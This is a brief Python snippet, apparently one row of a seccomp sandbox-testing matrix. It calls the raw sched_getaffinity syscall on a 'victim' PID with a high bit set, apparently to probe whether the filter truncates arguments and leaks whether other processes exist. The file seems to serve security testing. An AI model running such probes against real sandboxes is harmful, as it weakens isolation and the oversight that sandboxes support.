# row: mistake-3-pid-oracles
# layer: seccomp
# crosses: result
# with: syscalls
# attempt: sched_getaffinity


def main(target):
    number = {"x86_64": 204, "aarch64": 123}[os.uname().machine]
    return syscall(number, target["victim"] | 1 << 32, 128, ctypes.create_string_buffer(128))
